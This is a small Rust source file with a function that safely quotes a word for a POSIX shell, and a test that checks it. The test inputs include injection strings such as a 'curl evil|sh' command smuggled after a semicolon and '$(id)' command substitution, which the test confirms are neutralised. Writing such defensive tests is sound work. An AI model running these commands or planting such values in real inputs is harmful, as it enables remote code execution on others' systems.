//! Words of a command that people paste into a shell.

/// `word` as one word of a POSIX shell, whatever is in it: bare where that is safe, else in single
/// quotes.
#[must_use]
pub fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_@%+=:,./".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_stays_one_word_whatever_is_in_it() {
        for plain in ["orca", "a/b-c_d@e%f+g=h:i,j.k"] {
            assert_eq!(quoted(plain), plain);
        }
        for (word, safe) in [
            ("", "''"),
            ("x; curl evil|sh #", "'x; curl evil|sh #'"),
            ("$(id) `id`", "'$(id) `id`'"),
            ("it's", r"'it'\''s'"),
            ("~", "'~'"),
            ("é", "'é'"),
        ] {
            assert_eq!(quoted(word), safe);
        }
    }
}
